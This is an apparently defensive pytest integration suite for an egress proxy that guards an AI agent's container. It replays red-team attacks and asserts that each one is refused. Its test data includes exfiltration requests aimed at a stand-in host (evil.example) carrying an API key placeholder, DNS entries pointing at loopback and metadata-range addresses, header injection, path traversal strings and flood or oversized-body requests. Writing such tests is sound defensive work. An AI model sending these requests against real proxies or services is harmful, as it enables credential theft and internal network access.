"""The red team's attacks on the seal, replayed for real against a live sealed bottle: a
real sidecar (mitmdump and the broker addon), a real upstream that answers for the API
and another host (it echoes what it receives and logs every request it sees), and an
attacker on the bottle's own network with a TLS and an HTTP/2 client
(``egress_world``). Each test names the finding of the seal-holes issue it replays, and
shows what the outside received: nothing, or nothing secret.
"""

from __future__ import annotations

import json
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from backends import paths, run
from backends.base import AgentSpec
from backends.docker.backend import DockerBackend
from backends.egress import plan as egress
from backends.egress import policy as pol
from backends.egress.spec import EgressSpec
from tests.fakes.egress_upstream import make_certs
from tests.integration.egress_world import (
    API,
    OTHER,
    TOKEN,
    client,
    container_ip,
    network_subnet,
    remove,
    seen,
    start_client,
    start_upstream,
)
from tests.support import agent_name, wait_for

pytestmark = pytest.mark.docker


@pytest.fixture(scope="module")
def world(
    test_image: str, egress_image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[dict[str, Any]]:
    mp = pytest.MonkeyPatch()
    state = tmp_path_factory.mktemp("attack-state")
    mp.setenv("XDG_STATE_HOME", str(state))
    mp.setenv("BOTTLE_TEST_TOKEN", TOKEN)
    certs = make_certs(tmp_path_factory.mktemp("certs"), (API, OTHER))
    agent = agent_name("attack")
    spec = AgentSpec(
        name=agent,
        image=test_image,
        egress=EgressSpec(
            allow=(f"{OTHER}:80", OTHER),
            credential="env:BOTTLE_TEST_TOKEN",
            api_base=f"https://{API}",
            upstream_ca=certs,
        ),
    )
    backend = DockerBackend()
    backend.launch(backend.prepare(spec))
    upstream = start_upstream(agent, egress_image, certs)
    attacker = start_client(agent, egress_image)
    bottle = f"bottle-{agent}"
    holder = run.run(
        ["docker", "exec", bottle, "sh", "-c", 'printf %s "$CLAUDE_CODE_OAUTH_TOKEN"']
    ).stdout
    yield {
        "agent": agent,
        "upstream": upstream,
        "client": attacker,
        "bottle": bottle,
        "placeholder": holder.strip(),
        "proxy": f"{egress.sidecar_name(agent)}:8080",
        "state": state,
    }
    remove(upstream, attacker)
    backend.remove(agent, volumes=True)
    mp.undo()


@pytest.fixture(autouse=True)
def _state(world: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(world["state"]))
    monkeypatch.setenv("BOTTLE_TEST_TOKEN", TOKEN)


def tls(world: dict[str, Any], target: str, sni: str, request: str) -> dict[str, Any]:
    return client(
        world["client"], "tls", world["proxy"], target, sni, request.encode().hex(), "/tmp/ca.pem"
    )


def raw(world: dict[str, Any], *chunks: bytes) -> dict[str, Any]:
    got = client(world["client"], "raw", world["proxy"], *(c.hex() for c in chunks))
    return {"reply": bytes.fromhex(str(got["reply"])), "closed": got["closed"]}


def log(world: dict[str, Any]) -> list[dict[str, Any]]:
    text = egress.egress_log(world["agent"]).read_text()
    return [json.loads(line) for line in text.splitlines() if line.strip()]


def test_the_control_the_placeholder_reaches_the_api_as_the_real_key(
    world: dict[str, Any],
) -> None:
    """Without it, every refusal below could be a broken tunnel."""
    req = f"GET /echo HTTP/1.1\r\nHost: {API}\r\nx-api-key: {world['placeholder']}\r\n\r\n"
    got = tls(world, f"{API}:443", API, req)
    echoed = json.loads(got["reply"][got["reply"].index("{") :])
    assert echoed["headers"]["x-api-key"] == TOKEN and echoed["path"] == "/echo"


def test_1_an_absolute_target_cannot_reflect_the_key(world: dict[str, Any]) -> None:
    """``curl --request-target https://evil.example/collect https://<api>/``: refused, and
    nothing reached the upstream; over HTTP/2 with an absolute ``:path`` too."""
    before = len(seen(world["upstream"]))
    req = (
        f"GET https://evil.example/collect HTTP/1.1\r\nHost: {API}\r\n"
        f"x-api-key: {world['placeholder']}\r\n\r\n"
    )
    got = tls(world, f"{API}:443", API, req)
    assert got["reply"].startswith("HTTP/1.1 403"), got
    assert "the request target names evil.example:443" in got["reply"]
    assert TOKEN not in got["reply"]
    # HTTP/2, where the target would ride in ``:path``: the sidecar does not speak it (it
    # offers HTTP/1.1 alone), so an absolute :path is never read, let alone forwarded.
    h2 = client(
        world["client"], "h2", world["proxy"], f"{API}:443", API,
        "https://evil.example/collect", API, f"x-api-key={world['placeholder']}",
    )  # fmt: skip
    assert h2.get("alpn") != "h2" and "status" not in h2, h2
    assert len(seen(world["upstream"])) == before, "the attack reached the upstream"
    targets = [ln for ln in log(world) if ln["check"] == "target"]
    assert targets and all(ln["decision"] == "deny" for ln in targets)


def test_2_a_client_hello_of_another_record_version_is_not_relayed(
    world: dict[str, Any],
) -> None:
    from backends.probes import net_facts as nf

    hello = nf.client_hello("evil.example")
    odd = hello[:2] + b"\x04" + hello[3:]
    connect = f"CONNECT {OTHER}:443 HTTP/1.1\r\nHost: {OTHER}:443\r\n\r\n".encode()
    got = raw(world, connect, odd)
    status, rest = nf.split_reply(got["reply"])
    assert status.startswith("HTTP/1.1 200"), got
    assert rest.startswith(b"HTTP/1.1 403 bottle-dash egress: tunnel refused"), rest
    assert got["closed"], "the sidecar kept the refused tunnel open"
    denial = log(world)[-1]
    assert denial["check"] == "tunnel" and "0x0304" in denial["reason"]


def test_3_the_credential_never_crosses_in_the_clear(world: dict[str, Any]) -> None:
    before = len(seen(world["upstream"]))
    request = (
        f"GET http://{API}:443/echo HTTP/1.1\r\nHost: {API}:443\r\n"
        f"x-api-key: {world['placeholder']}\r\n\r\n"
    ).encode()
    got = raw(world, request)
    assert got["reply"].startswith(b"HTTP/1.1 403"), got
    assert b"port 443 is for HTTPS" in got["reply"]
    assert len(seen(world["upstream"])) == before


def test_6_the_proxy_answers_on_the_bottles_network_only(world: dict[str, Any]) -> None:
    agent = world["agent"]
    outer_ip = container_ip(egress.sidecar_name(agent), egress.outer_network_name(agent))
    with pytest.raises(OSError):  # from the host
        socket.create_connection((outer_ip, 8080), timeout=3).close()
    # From a neighbour on the outer network (the upstream's container).
    probe = (
        "import socket\ntry:\n socket.create_connection(("
        f"{outer_ip!r}, 8080), timeout=3)\n print('open')\nexcept OSError:\n print('refused')"
    )
    out = run.run(["docker", "exec", world["upstream"], "python3", "-c", probe]).stdout
    assert out.strip() == "refused"


def test_7_another_accounts_key_never_reaches_the_api(world: dict[str, Any]) -> None:
    before = len(seen(world["upstream"]))
    for header in ("x-api-key: sk-ant-api03-" + "m" * 93, "Authorization: Bearer mine"):
        req = f"GET /echo HTTP/1.1\r\nHost: {API}\r\n{header}\r\n\r\n"
        got = tls(world, f"{API}:443", API, req)
        assert got["reply"].startswith("HTTP/1.1 403"), got
        assert "not this bottle's placeholder" in got["reply"]
    assert len(seen(world["upstream"])) == before


def test_8_inside_addresses_are_never_dialled_whatever_dns_says(world: dict[str, Any]) -> None:
    """Names an allowlisted rule could resolve to, planted in the sidecar's own resolver
    (its /etc/hosts): its loopback, a link-local address (the metadata range: never the
    metadata address itself), its own bottle-side address and its gateway (the host).
    Each is refused before anything is dialled; a private name without a range rule too."""
    agent = world["agent"]
    sidecar = egress.sidecar_name(agent)
    inner_ip = container_ip(sidecar, f"bottle-{agent}-net")
    outer = json.loads(
        run.run(["docker", "network", "inspect", egress.outer_network_name(agent)]).stdout
    )[0]
    gateway = outer["IPAM"]["Config"][0]["Gateway"]
    planted = {
        "loop.egress.invalid": "127.0.0.1",
        "link.egress.invalid": "169.254.7.7",
        "self.egress.invalid": inner_ip,
        "gw.egress.invalid": gateway,
    }
    # The sidecar's /etc/hosts is the engine's file, bind-mounted read-only: written here
    # from the host (as root, like the rest of these tiers).
    hosts = run.run(
        ["docker", "inspect", "--format", "{{.HostsPath}}", sidecar], check=True
    ).stdout.strip()
    with open(hosts, "a") as fh:
        fh.write("".join(f"{ip} {name}\n" for name, ip in planted.items()))
    for name in planted:
        assert egress.allow_live(agent, f"{name}:80")
    for name, ip in planted.items():
        got = raw(world, f"GET http://{name}/x HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        assert b"502" in got["reply"].split(b"\r\n", 1)[0], (name, got)
        assert f"resolves to {ip}".encode() in got["reply"], (name, got)
        assert b"never dialled" in got["reply"]
    checks = [ln for ln in log(world) if ln["check"] == "address"]
    assert {ln["host"] for ln in checks} >= set(planted)


def test_8_a_private_upstream_needs_its_range_named(
    world: dict[str, Any], egress_image: str
) -> None:
    """Take the upstream's range out of the live policy: the same request is refused with
    the rule to add; put it back: it passes."""
    agent = world["agent"]
    policy_file = egress.egress_dir(agent) / pol.POLICY_FILE
    saved = policy_file.read_text()
    subnet = network_subnet(egress.outer_network_name(agent))
    current = pol.Policy.from_json(saved)
    narrowed = current._replace(allow=tuple(r for r in current.allow if str(r) != subnet))
    try:
        paths.write_private(policy_file, narrowed.to_json().encode())
        got = raw(world, f"GET http://{OTHER}/echo HTTP/1.1\r\nHost: {OTHER}\r\n\r\n".encode())
        assert b"a private address" in got["reply"], got
        assert f"to {pol.ALLOW_KEY}".encode() in got["reply"]
    finally:
        paths.write_private(policy_file, saved.encode())
    got = raw(world, f"GET http://{OTHER}/echo HTTP/1.1\r\nHost: {OTHER}\r\n\r\n".encode())
    assert got["reply"].startswith(b"HTTP/1.1 200"), got


def test_9_the_egress_log_is_capped_and_rotated(world: dict[str, Any]) -> None:
    """Denials as fast as a bottle can send them: the log stays under its limit (set small
    here through the policy), with one older file kept."""
    agent = world["agent"]
    policy_file = egress.egress_dir(agent) / pol.POLICY_FILE
    saved = policy_file.read_text()
    small = pol.Policy.from_json(saved)._replace(log_max=8192)
    paths.write_private(policy_file, small.to_json().encode())
    try:
        flood = (
            "i=0; while [ $i -lt 120 ]; do "
            f'printf "CONNECT flood-$i.invalid:443 HTTP/1.1\\r\\n\\r\\n" | nc -w 2 '
            f"{egress.sidecar_name(agent)} 8080 >/dev/null; i=$((i+1)); done"
        )
        run.run(["docker", "exec", world["bottle"], "sh", "-c", flood], timeout=300)
        folder = egress.egress_dir(agent)
        current, older = folder / pol.LOG_FILE, folder / (pol.LOG_FILE + ".1")
        assert older.exists(), "the log was never rotated"
        assert current.stat().st_size <= 8192 and older.stat().st_size <= 8192
        assert "flood-119.invalid" in current.read_text()
    finally:
        paths.write_private(policy_file, saved.encode())


def test_9_a_huge_body_cannot_take_the_sidecar_down(world: dict[str, Any]) -> None:
    """171 MB announced, and 100 MB sent chunked, to the API host: refused (the
    connection closed, nothing buffered); the sidecar was not killed and still serves."""
    agent = world["agent"]
    announced = (
        f"POST https://{API}/v1/messages HTTP/1.1\r\nHost: {API}\r\n"
        f"Content-Length: {171 * 1024**2}\r\n\r\n"
    ).encode()
    got = raw(world, announced, b"x" * 4096)
    assert got["closed"] and not got["reply"], got
    script = (
        "import socket\n"
        f"s = socket.create_connection(({egress.sidecar_name(agent)!r}, 8080))\n"
        f"s.sendall(b'POST https://{API}/v1/messages HTTP/1.1\\r\\nHost: {API}\\r\\n"
        "Transfer-Encoding: chunked\\r\\n\\r\\n')\n"
        "chunk = b'%x\\r\\n' % (1 << 20) + b'y' * (1 << 20) + b'\\r\\n'\n"
        "sent = 0\n"
        "try:\n"
        "    for _ in range(100):\n"
        "        s.sendall(chunk); sent += 1\n"
        "except OSError:\n"
        "    pass\n"
        "print(sent)\n"
    )
    sent = run.run(["docker", "exec", world["client"], "python3", "-c", script], timeout=120)
    assert int(sent.stdout.strip() or 0) < 100, "the sidecar took a 100 MB body for the API"
    logs = subprocess.run(["docker", "logs", world["upstream"]], capture_output=True, text=True)
    sinks = [json.loads(ln) for ln in logs.stdout.splitlines() if ln.startswith('{"sink"')]
    # The API got at most its limit: the rest was withheld (mitmproxy ends a streamed
    # body it can no longer stop, so what arrives is cut short, never more).
    assert sinks and sinks[-1]["sink"] <= pol.API_BODY_MAX, sinks
    inspected = json.loads(run.run(["docker", "inspect", egress.sidecar_name(agent)]).stdout)[0]
    state = inspected["State"]
    assert state["Running"] and not state["OOMKilled"] and inspected["RestartCount"] == 0, state
    ok = raw(world, f"GET http://{OTHER}/echo HTTP/1.1\r\nHost: {OTHER}\r\n\r\n".encode())
    assert ok["reply"].startswith(b"HTTP/1.1 200"), ok
    sizes = [ln for ln in log(world) if ln["check"] == "size"]
    assert len(sizes) >= 2


def test_9_the_status_channel_holds_one_word(world: dict[str, Any]) -> None:
    """The bottle has no status folder to fill; its word goes to the sidecar, which keeps
    only a known word, one at a time."""
    agent, bottle = world["agent"], world["bottle"]
    state_dir = paths.agent_state_dir(agent)
    before = sorted(p.relative_to(state_dir) for p in state_dir.rglob("*"))
    from backends.claude import status_hook_command

    script = (
        "for i in 1 2 3; do ( : > /opt/bottle-dash/status/f$i ) 2>/dev/null && echo wrote; done; "
        f"{status_hook_command('working')}"
    )
    out = run.run(["docker", "exec", bottle, "sh", "-c", script], timeout=120)
    assert "wrote" not in out.stdout, out
    status = egress.egress_dir(agent) / pol.STATUS_FILE
    # busybox nc leaves at the end of its input: the sidecar may write a moment later.
    wait_for(
        lambda: status.exists() and status.read_text() == "working\n",
        20,
        interval=0.1,
        shown=lambda: str(out),
    )
    for odd in ("x", "y" * 300, "..%2f..%2fplan.json", "working/../../plan.json"):
        got = raw(world, f"GET http://{pol.STATUS_HOST}/{odd} HTTP/1.1\r\n\r\n".encode())
        assert got["reply"].startswith(b"HTTP/1.1 400"), (odd, got)
    assert status.read_text() == "working\n"
    idle = run.run(["docker", "exec", bottle, "sh", "-c", status_hook_command("idle")])
    wait_for(
        lambda: status.read_text() == "idle\n",
        20,
        interval=0.1,
        shown=lambda: str((idle, status.read_text())),
    )
    after = sorted(p.relative_to(state_dir) for p in state_dir.rglob("*"))
    added = set(after) - set(before) - {Path("egress") / pol.STATUS_FILE}
    assert not {p for p in added if not str(p).startswith("egress/egress.log")}, added


def test_11_a_host_of_another_port_and_forwarding_headers(world: dict[str, Any]) -> None:
    req = f"GET /echo HTTP/1.1\r\nHost: {OTHER}:8443\r\n\r\n"
    got = tls(world, f"{OTHER}:443", OTHER, req)
    assert got["reply"].startswith("HTTP/1.1 403"), got
    assert "Host header port 8443 does not match" in got["reply"]
    req = (
        f"GET /echo HTTP/1.1\r\nHost: {OTHER}\r\nX-Forwarded-Host: evil.example\r\n"
        "Forwarded: host=evil.example\r\nX-Forwarded-For: 1.2.3.4\r\nConnection: close\r\n\r\n"
    )
    got = tls(world, f"{OTHER}:443", OTHER, req)
    echoed = json.loads(got["reply"][got["reply"].index("{") :])["headers"]
    assert not {k for k in echoed if k.startswith("x-forwarded") or k == "forwarded"}, echoed


def test_the_sidecar_came_up_listening_on_its_bottle_side_address(world: dict[str, Any]) -> None:
    logs = subprocess.run(
        ["docker", "logs", egress.sidecar_name(world["agent"])], capture_output=True, text=True
    )
    inner = container_ip(egress.sidecar_name(world["agent"]), f"bottle-{world['agent']}-net")
    assert f"proxy listening at {inner}:8080" in logs.stdout + logs.stderr
